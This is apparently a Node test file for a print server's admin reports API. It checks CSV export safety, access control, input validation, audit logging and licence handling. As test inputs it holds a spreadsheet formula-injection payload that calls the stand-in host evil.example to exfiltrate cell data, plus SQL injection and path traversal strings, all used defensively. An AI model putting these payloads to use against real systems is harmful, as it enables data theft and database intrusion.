// Reports of a running server: numbers, files that no spreadsheet runs (threats T35), bad questions, and the licence beside them.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { bookRecord } from '@platen/edge-server/flow/account/book-record';
import { localDay } from '@platen/edge-server/flow/account/local-day';
import { insertJob } from '@platen/edge-server/flow/store/jobs';
import { insertRelease } from '@platen/edge-server/flow/store/releases';
import type { Report } from '@platen/shared/api/admin-reports';
import { makeIssuer } from '../support/make-licence.ts';
import { aJob, aRelease } from '../support/rows.ts';
import { type Answer, type Client, type RunningServer, runServer } from '../support/running-server.ts';

const ISSUER = makeIssuer();
const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

let server: RunningServer;
let client: Client;
let today = '';
let evilUser = '';
let goneUser = '';

const get = (path: string): Promise<Answer> =>
  client.call('GET', path, { headers: { authorization: `Bearer ${server.operatorToken}` } });
const send = (method: string, path: string, body?: unknown): Promise<Answer> =>
  client.call(method, path, {
    headers: { authorization: `Bearer ${server.operatorToken}` },
    ...(body === undefined ? {} : { body }),
  });
const report = async (query: string): Promise<Report> => {
  const answer = await get(`/api/admin/reports?from=${today}&to=${today}&${query}`);
  assert.equal(answer.status, 200, answer.bytes.toString());
  return answer.json as Report;
};

before(async () => {
  server = await runServer({ licenceKeys: [ISSUER.key] });
  client = server.client();
  const { app } = server;
  const { day } = localDay(app.clock.now());
  today = String(day).replace(/^(\d{4})(\d\d)(\d\d)$/, '$1-$2-$3');
  evilUser = (await app.users.add('evil@example.org', EVIL)).user.id;
  goneUser = (await app.users.add('gone@example.org', 'Soon Gone')).user.id;
  const otherGone = (await app.users.add('gone2@example.org', 'Gone Too')).user.id;
  await app.db.write(async (tx) => {
    for (const [ownerId, pages] of [
      [evilUser, 5],
      [goneUser, 7],
      [otherGone, 11],
    ] as const) {
      const job = aJob({ ownerId, state: 'printed', channel: '+mail', title: 'Secret title' });
      const release = aRelease({ jobId: job.id, ownerId, state: 'done', pages, endedAt: app.clock.now() });
      await insertJob(tx, job);
      await insertRelease(tx, release);
      await bookRecord(tx, release.id);
    }
  });
  await app.users.remove(goneUser);
  await app.users.remove(otherGone);
});
after(() => server.close());

test('deleted users stay counted, under one name, and none of them can be told apart', async () => {
  const { rows, total } = await report('by=user');
  assert.deepEqual(
    rows.map(({ key, label, pages }) => [key, label, pages]),
    [
      ['deleted', 'Deleted user', 18],
      [evilUser, EVIL, 5],
    ],
  );
  assert.deepEqual([total.pages, total.jobs, total.failed], [23, 3, 0]);
  assert.equal((await report(`by=day&user=${goneUser}`)).about.user, 'Deleted user');
});

test('what is beyond the top is one sum, and the period before has the same length', async () => {
  const { rows, rest, before: earlier } = await report('by=user&top=1');
  assert.equal(rows.length, 1);
  assert.deepEqual([rest?.count, rest?.pages], [1, 5]);
  assert.equal(earlier.from, earlier.to);
  assert.ok(earlier.to < today);
});

test('every step of time is there, empty ones too', async () => {
  const hours = await report('by=hour');
  assert.equal(hours.rows.length, 24);
  const answer = await get('/api/admin/reports?by=day&from=2024-02-27&to=2024-03-01');
  assert.deepEqual(
    (answer.json as Report).rows.map(({ key }) => key),
    ['2024-02-27', '2024-02-28', '2024-02-29', '2024-03-01'],
  );
});

test('files: a byte order mark, CR LF, a plain name, no formula and no title', async () => {
  for (const path of [`reports.csv?by=user&`, `reports.csv?by=channel&`, 'records.csv?']) {
    const answer = await get(`/api/admin/${path}from=${today}&to=${today}`);
    assert.equal(answer.status, 200);
    assert.equal(answer.headers['content-type'], 'text/csv; charset=utf-8');
    assert.match(
      String(answer.headers['content-disposition']),
      /^attachment; filename="platen-[a-z0-9-]+\.csv"$/,
    );
    assert.deepEqual([...answer.bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
    const text = answer.bytes.toString('utf8').slice(1);
    const lines = text.split('\r\n');
    assert.equal(lines.pop(), '');
    assert.ok(lines.length >= 2);
    for (const line of lines) {
      // Cells as RFC 4180 splits them.
      for (const [, quoted, plain] of line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)) {
        assert.doesNotMatch(quoted ?? plain ?? '', /^[=+@\t]|^-\D/, line);
      }
    }
    assert.doesNotMatch(text, /Secret title|gone@example|Soon Gone/);
  }
});

test('whoever takes the single records away is in the audit log', async () => {
  await get(`/api/admin/records.csv?from=${today}&to=${today}`);
  const entries = await server.app.db.read((tx) => tx.q.select().from(tx.t.audit));
  assert.ok(entries.some(({ act, about }) => act === 'exported records' && about === `${today} to ${today}`));
});

test('bad questions get 400 and never a word of SQL', async () => {
  for (const query of [
    'by=day',
    'by=day&from=2026-02-30&to=2026-03-01',
    'by=day&from=2026-03-02&to=2026-03-01',
    'by=day&from=2000-01-01&to=2026-01-01',
    'by=title&from=2026-01-01&to=2026-01-02',
    "by=day&from=2026-01-01&to=2026-01-02'--",
    'by=user&from=2026-01-01&to=2026-01-02&top=0',
    'by=user&from=2026-01-01&to=2026-01-02&top=501',
    'by=user&from=2026-01-01&to=2026-01-02&top=1.5',
    'by=user&from=2026-01-01&to=2026-01-02&colour=blue',
    `by=user&from=2026-01-01&to=2026-01-02&user=${'a'.repeat(65)}`,
    'by=user&from=2026-01-01&to=2026-01-02&user=..%2F',
  ]) {
    const answer = await get(`/api/admin/reports?${query}`);
    assert.equal(answer.status, 400, query);
    assert.doesNotMatch(answer.bytes.toString(), /select|sqlite|syntax/i);
  }
  const odd = await report(`by=user&site=${encodeURIComponent("' or 1=1 --")}`);
  assert.equal(odd.total.jobs, 0, 'quotes are letters');
});

test('nobody but an administrator sees a report or the licence', async () => {
  const { client: user } = await server.portalUser();
  for (const path of [
    'reports?by=day&from=2026-01-01&to=2026-01-02',
    'reports/choices',
    'records.csv',
    'reports.csv',
    'licence',
  ]) {
    for (const someone of [server.client(), user]) {
      assert.equal((await someone.call('GET', `/api/admin/${path}`)).status, 401, path);
    }
  }
});

test('a document that waits undecided and is deleted is booked as such', async () => {
  const { app } = server;
  const [job, release] = await app.db.write(async (tx) => {
    const waiting = aJob({ state: 'uncertain', blobId: null });
    const cut = aRelease({
      jobId: waiting.id,
      state: 'uncertain',
      pages: 9,
      pagesDone: 4,
      endedAt: app.clock.now(),
    });
    await insertJob(tx, waiting);
    await insertRelease(tx, cut);
    return [waiting, cut];
  });
  const before = await report('by=day');
  assert.ok(await app.shred.remove(job.id, 'the administrator'));
  const now = await report('by=day');
  assert.equal(now.total.pages - before.total.pages, 4);
  assert.equal(now.total.failed - before.total.failed, 1);
  const rows = await app.db.read((tx) => tx.q.select().from(tx.t.records));
  assert.equal(rows.find(({ id }) => id === release.id)?.outcome, 'uncertain');
});

test('a licence is installed, seen and removed; a wrong one is refused in words and changes nothing', async () => {
  const none = await get('/api/admin/licence');
  assert.equal((none.json as { state: string }).state, 'none');
  const wrong = await send('POST', '/api/admin/licence', { text: makeIssuer().licence() });
  assert.equal(wrong.status, 422);
  assert.match(wrong.bytes.toString(), /unknown key/);
  const installed = await send('POST', '/api/admin/licence', {
    text: ISSUER.licence({ notAfter: '2999-12-31' }),
  });
  assert.equal(installed.status, 200, installed.bytes.toString());
  assert.ok(server.app.licence.has('relay'));
  assert.equal((await get('/api/admin/licence')).status, 200);
  await send('DELETE', '/api/admin/licence');
  assert.equal(server.app.licence.has('relay'), false);
});
